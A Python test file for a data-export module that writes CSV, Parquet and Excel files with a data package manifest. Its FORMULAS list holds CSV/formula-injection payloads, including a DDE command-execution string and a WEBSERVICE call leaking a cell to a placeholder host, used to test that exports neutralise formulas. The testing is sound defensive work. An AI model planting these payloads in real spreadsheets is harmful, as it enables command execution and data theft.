"""Exports: what stands in the files, what does not, and that they appear whole."""

from __future__ import annotations

import csv
import hashlib
import json
import os
import zipfile
from pathlib import Path
from xml.etree import ElementTree

import duckdb
import openpyxl
import polars as pl
import pytest

from pipelines.adapters import export
from pipelines.adapters.export import ExportFormat, export_published
from pipelines.errors import NiagaError
from pipelines.settings import PROJECT_DIR

DBT_DIR = PROJECT_DIR / "dbt_project"
SECRET_TEXT = "Whole text of an article that belongs to its publisher."
FORMULAS = [
    "=cmd|' /C calc'!A0", "+1+cmd|x", "-2+3+cmd|x", "@SUM(1)", "\t=1+1", "\r=1", " =1+1", "\n=HYPERLINK(1)",
    "\uff1d1+1", "=WEBSERVICE(\"http://x.example/?q=\"&A1)",
]  # fmt: skip


@pytest.fixture
def published(tmp_path: Path) -> Path:
    path = tmp_path / "niaga.duckdb"
    with duckdb.connect(str(path)) as connection:
        connection.execute("create schema core; create schema marts; create schema other")
        connection.execute("create table other.hidden as select 1 as a")
        connection.execute(
            "create table core.articles as select 'a1' as article_id, 'Judul' as title, ? as text, 'r1' as run_id",
            [SECRET_TEXT],
        )
        connection.execute("create table core.runs as select 'r1' as run_id, now() as started_at")
        connection.execute(
            "create table marts.dim_product (product_id varchar, names varchar[], value decimal(28, 4), "
            "day date, is_first boolean, share double, first_seen_at timestamptz)"
        )
        connection.execute(
            "insert into marts.dim_product values ('p0', ['a', '=b'], 12345678901234567890.1234, "
            "date '2024-02-29', true, 0.5, now()), ('p00', [], 7, null, null, null, null)"
        )
        for number, text in enumerate(FORMULAS):
            connection.execute(
                "insert into marts.dim_product (product_id, names) values (?, [?])", [text, f"{number}"]
            )
    return path


def export_all(published: Path, out: Path, **options: bool) -> Path:
    export_published(published, out, dbt_dir=DBT_DIR, formats=list(ExportFormat), **options)
    return out


def files(folder: Path) -> dict[str, str]:
    return {
        path.relative_to(folder).as_posix(): hashlib.sha256(path.read_bytes()).hexdigest()
        for path in sorted(folder.rglob("*"))
        if path.is_file()
    }


def test_every_table_is_there_in_each_format_and_the_package_describes_all_files(
    published: Path, tmp_path: Path
) -> None:
    out = export_all(published, tmp_path / "out")
    package = json.loads((out / "datapackage.json").read_text("utf-8"))
    described = {resource["path"]: resource for resource in package["resources"]}
    found = files(out)
    assert set(described) == set(found) - {"datapackage.json"}
    for path, resource in described.items():
        assert resource["hash"] == f"sha256:{found[path]}"
        assert resource["bytes"] == (out / path).stat().st_size
    assert set(described) == {
        "csv/articles.csv", "csv/dim_product.csv", "parquet/articles.parquet", "parquet/dim_product.parquet",
        "dictionary.csv", "niaga.xlsx",
    }  # fmt: skip
    fields = {field["name"]: field for field in described["csv/dim_product.csv"]["schema"]["fields"]}
    assert {name: field["type"] for name, field in fields.items()} == {
        "product_id": "string", "names": "string", "value": "number", "day": "date", "is_first": "boolean",
        "share": "number",
    }  # fmt: skip
    assert fields["product_id"]["description"]
    with (out / "csv" / "dim_product.csv").open(newline="", encoding="utf-8") as stream:
        assert next(csv.reader(stream)) == list(fields)


def test_values_are_exact_in_parquet_and_as_exact_as_the_format_allows_elsewhere(
    published: Path, tmp_path: Path
) -> None:
    out = export_all(published, tmp_path / "out")
    frame = pl.read_parquet(out / "parquet" / "dim_product.parquet").filter(pl.col("product_id") == "p0")
    row = frame.row(0, named=True)
    assert str(row["value"]) == "12345678901234567890.1234"
    assert row["names"] == ["a", "=b"]
    with (out / "csv" / "dim_product.csv").open(newline="", encoding="utf-8") as stream:
        rows = {row["product_id"]: row for row in csv.DictReader(stream)}
    assert rows["p0"]["value"] == "12345678901234567890.1234"
    assert rows["p0"]["day"] == "2024-02-29"
    sheet = openpyxl.load_workbook(out / "niaga.xlsx")["dim_product"]
    cells = {line[0].value: line for line in sheet.iter_rows(min_row=2)}
    assert cells["p0"][2].value == "12345678901234567890.1234", "15 digits would not have held it"
    assert cells["p00"][2].value == 7


def test_whole_articles_and_what_names_the_run_leave_only_when_asked(published: Path, tmp_path: Path) -> None:
    out = export_all(published, tmp_path / "out")
    for path in out.rglob("*"):
        if path.is_file():
            contents = [path.read_bytes()]
            if path.suffix == ".xlsx":
                with zipfile.ZipFile(path) as book:
                    contents = [book.read(name) for name in book.namelist()]
            assert not any(SECRET_TEXT.encode() in content for content in contents), path
    assert pl.read_parquet(out / "parquet" / "articles.parquet").columns == ["article_id", "title"]
    more = export_all(published, tmp_path / "more", with_texts=True, with_runs=True)
    articles = pl.read_parquet(more / "parquet" / "articles.parquet")
    assert articles["text"].to_list() == [SECRET_TEXT]
    assert articles["run_id"].to_list() == ["r1"]
    assert (more / "csv" / "runs.csv").exists()


def test_no_spreadsheet_runs_a_text_as_a_formula(published: Path, tmp_path: Path) -> None:
    out = export_all(published, tmp_path / "out")
    with (out / "csv" / "dim_product.csv").open(newline="", encoding="utf-8") as stream:
        texts = [row["product_id"] for row in csv.DictReader(stream)]
    attacks = [text for text in texts if text not in {"p0", "p00"}]
    assert len(attacks) == len(FORMULAS)
    assert all(text.startswith("'") for text in attacks)
    book = openpyxl.load_workbook(out / "niaga.xlsx")
    kinds = {cell.data_type for sheet in book for line in sheet.iter_rows() for cell in line}
    assert "f" not in kinds
    with zipfile.ZipFile(out / "niaga.xlsx") as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                tags = {
                    element.tag.rpartition("}")[2]
                    for element in ElementTree.fromstring(archive.read(name)).iter()
                }
                assert not tags & {"f", "hyperlink", "hyperlinks"}


def test_the_same_tables_give_the_same_bytes(published: Path, tmp_path: Path) -> None:
    first = files(export_all(published, tmp_path / "one"))
    with duckdb.connect(str(published)) as connection:  # the rows in another order, another run
        connection.execute("create table t as select * from marts.dim_product order by hash(product_id)")
        connection.execute(
            "delete from marts.dim_product; insert into marts.dim_product select * from t; drop table t"
        )
        connection.execute("update core.runs set run_id = 'r2'; update core.articles set run_id = 'r2'")
    assert files(export_all(published, tmp_path / "two")) == first


def test_an_export_that_fails_leaves_what_was_there(
    published: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    out = export_all(published, tmp_path / "out")
    before = files(out)

    def full_disk(*_: object) -> None:
        raise OSError(28, os.strerror(28))

    monkeypatch.setattr(export, "_write_excel", full_disk)
    with pytest.raises(OSError, match="No space"):
        export_all(published, out, replace=True)
    with pytest.raises(OSError, match="No space"):
        export_all(published, tmp_path / "new")
    assert files(out) == before
    assert sorted(path.name for path in tmp_path.iterdir()) == ["niaga.duckdb", "out"]


def test_a_folder_that_is_no_export_is_never_touched(published: Path, tmp_path: Path) -> None:
    mine = tmp_path / "mine"
    mine.mkdir()
    (mine / "thesis.docx").write_bytes(b"x")
    with pytest.raises(NiagaError, match="is no export"):
        export_all(published, mine, replace=True)
    out = export_all(published, tmp_path / "out")
    with pytest.raises(NiagaError, match="--replace"):
        export_all(published, out)
    export_all(published, out, replace=True)
    assert sorted(path.name for path in tmp_path.iterdir()) == ["mine", "niaga.duckdb", "out"]


def test_a_table_longer_than_a_sheet_is_left_out_of_the_workbook_and_named(
    published: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(export, "_SHEET_ROWS", 5)
    exported = export_published(published, tmp_path / "out", dbt_dir=DBT_DIR, formats=list(ExportFormat))
    assert exported.left_out_of_excel == ["dim_product"]
    assert pl.read_parquet(tmp_path / "out" / "parquet" / "dim_product.parquet").height > 5
